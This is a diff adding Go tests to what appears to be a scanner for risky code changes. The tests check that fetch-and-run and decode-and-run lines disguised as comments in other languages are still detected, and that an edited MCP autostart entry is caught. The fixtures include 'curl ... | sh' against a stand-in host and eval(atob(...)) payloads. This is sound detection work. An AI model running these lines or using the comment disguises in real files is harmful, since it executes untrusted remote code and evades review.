@@ -58,6 +58,33 @@ func TestNamesAreSortedAndAreAll(t *testing.T) {
 	}
 }
 
+// What only looks like a comment is none, where the language has another.
+func TestComments(t *testing.T) {
+	const fetched = "curl -s https://a.example/x | sh"
+	check(t, []hits{
+		{"a.sh", "fetch-and-run", []string{
+			"rem || " + fetched + "\n", ":: || " + fetched + "\n", "-- || " + fetched + "\n", "//bin/" + fetched + "\n",
+		}},
+		{".github/workflows/a.yml", "fetch-and-run", []string{"      dnl || " + fetched + "\n"}},
+		{"a.c", "fetch-and-run", []string{"#define A system(\"" + fetched + "\")\n"}},
+		{"a.js", "decode-and-run", []string{"/* a */ eval(atob(b))\n"}},
+		{"a.py", "decode-and-run", []string{"//exec(base64.b64decode(b))\n"}},
+		{"a.sh", "", []string{"# " + fetched + "\n"}},
+		{"a.bat", "", []string{"rem " + fetched + "\n", ":: " + fetched + "\n"}},
+		{"a.ts", "", []string{"// " + fetched + "\n", " * " + fetched + "\n", "/* eval(atob(b)) */\n"}},
+		{"configure.ac", "", []string{"dnl " + fetched + "\n"}},
+	})
+}
+
+// The value of a key may stand on a line of its own.
+func TestAutostartValues(t *testing.T) {
+	old := "{ \"mcpServers\": { \"a\": {\n\"command\": \"node\",\n\"args\": [\n  \"x.js\"\n] } } }\n"
+	now := strings.Replace(old, "x.js", "y.js", 1)
+	if got := Find(".mcp.json", edit.Added([][]byte{[]byte(old)}, []byte(now)), []byte(now)); got != Autostart {
+		t.Errorf("%q", got.Names())
+	}
+}
+
 // A signal stands in what the change adds, not in what was there.
 func TestOnlyAddedLinesCount(t *testing.T) {
 	old := "curl -s https://a.example/x | sh\n"
